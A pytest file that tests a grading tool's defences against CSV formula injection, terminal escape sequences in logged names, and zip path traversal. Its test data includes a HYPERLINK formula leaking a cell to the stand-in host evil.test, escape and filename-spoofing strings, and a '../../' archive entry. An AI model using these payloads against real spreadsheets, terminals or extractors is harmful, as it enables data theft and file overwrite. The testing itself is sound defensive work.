"""What leaves nbgrader is harmless for a spreadsheet and for a terminal; what comes in archives, for the disk."""

import csv
import logging
import zipfile

import pytest

from grader.submission import readable
from grader.transport import CarefulCsvExport, CarefulExtractor, harmless_cell

FORMULA = "=HYPERLINK(\"http://evil.test?\"&A1,\"click\")"


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", " =1", "|cmd", "\r=1", "\n=1"])
def test_no_text_becomes_a_formula(text):
    assert harmless_cell(text).startswith("'")


@pytest.mark.parametrize("value, shown", [(-1.5, "-1.5"), (None, ""), ("Ada", "Ada"), ("a=b", "a=b"), ("", "")])
def test_numbers_and_plain_names_stay(value, shown):
    assert harmless_cell(value) == shown


def test_the_export_of_a_class_holds_no_formula(pupils, workers):
    pupils.hand_in("ada")
    pupils.grade_here(workers)
    with pupils.gradebook() as gradebook:
        gradebook.update_or_create_student("ada", first_name=FORMULA, last_name="@x\x1b[2J", email="a\r\n=b")
        export = CarefulCsvExport(to=str(pupils.root / "grades.csv"))
        export.export(gradebook)
    with open(pupils.root / "grades.csv", newline="", encoding="utf-8") as file:
        (row,) = csv.DictReader(file)
    assert row["student_id"] == "ada" and float(row["score"]) == 5
    assert all(text.isprintable() and text[:1] not in tuple("=+-@") for text in row.values())


@pytest.mark.parametrize("name", ["\x1b[2J\x1b]0;evil\x07", "a\nb", "\u202etxt.exe", "\x9b31m", "a\rb", "\udcff"])
def test_a_name_in_a_log_drives_no_terminal(name):
    assert readable(name).isprintable()


def test_an_archive_that_is_refused_is_told_and_the_rest_goes_on(tmp_path, caplog):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a\x1b[2J.zip").write_bytes(b"PK\x03\x04 no archive")
    with zipfile.ZipFile(tmp_path / "in" / "b.zip", "w") as archive:
        archive.writestr("../../out.txt", "x")
        archive.writestr("sub/in.txt", "x")
    extractor = CarefulExtractor()
    extractor.log = logging.getLogger("collect")
    extractor.extract(str(tmp_path / "in"), str(tmp_path / "out"))
    found = [str(path.relative_to(tmp_path)) for path in tmp_path.rglob("*.txt")]
    assert found == ["out/b/sub/in.txt"]
    assert caplog.messages and all(message.isprintable() for message in caplog.messages)
